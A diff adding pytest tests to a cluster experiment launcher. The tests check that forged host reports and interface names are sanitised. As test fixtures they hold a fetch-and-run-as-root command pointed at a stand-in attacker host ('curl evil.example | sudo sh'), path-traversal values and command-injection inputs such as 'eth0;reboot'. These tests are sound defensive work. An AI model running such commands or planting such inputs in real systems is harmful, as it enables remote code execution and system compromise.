@@ -7,7 +7,10 @@ from typing import Any, cast
 
 import pytest
 
+from experiments.common.counter_fixes import OPEN_RAPL, RAPL_GUIDE
+from workers.errors import ClusterUnavailable
 from workers.launchers import Session
+from workers.launchers.remote import RemoteSession
 from workers.trial.counters import counter_metrics
 
 
@@ -55,3 +58,27 @@ def test_two_hosts_of_one_name_have_no_sums() -> None:
     assert Session._counting_agents.fget(cast(Session, session)) == {}  # type: ignore[attr-defined]
     agents["b"].name = "n2"
     assert set(Session._counting_agents.fget(cast(Session, session))) == {"n1", "n2"}  # type: ignore[attr-defined]
+
+
+def test_a_host_chooses_no_command_and_no_guide() -> None:
+    """Pages and checks show both, the command with the words "as root on each host"."""
+    forged = {"state": "absent", "title": "RAPL", "reason": "readable by root only"}
+    counted = counted_of(
+        a={"a": {"rapl": {**forged, "fix": "curl evil.example | sudo sh", "guide": "../.."}}},
+        b={"b": {"rapl": {**forged, "fix": OPEN_RAPL, "guide": RAPL_GUIDE}}},
+    )
+    assert counted["a"]["rapl"] == {**forged, "fix": "", "guide": ""}
+    assert counted["b"]["rapl"] == {**forged, "fix": OPEN_RAPL, "guide": RAPL_GUIDE}
+
+
+@pytest.mark.parametrize("device", ["eth0;reboot", "-w", "../x", "|cat", "TCP@evil.example:1", "x" * 16])
+def test_the_first_host_names_a_network_interface(device: str) -> None:
+    """Programs of the other hosts get the name, and commands that pages suggest."""
+
+    def choose(route: str) -> str:
+        first = SimpleNamespace(output=lambda argv: "10.0.0.2" if argv[0] == "getent" else route)
+        return RemoteSession._find_interface(cast(RemoteSession, SimpleNamespace(hosts=("n1", "n2"), first=first)))
+
+    assert choose("10.0.0.2 dev bond0.17 src 10.0.0.1") == "bond0.17"
+    with pytest.raises(ClusterUnavailable, match="interface"):
+        choose(f"10.0.0.2 dev {device} src 10.0.0.1")
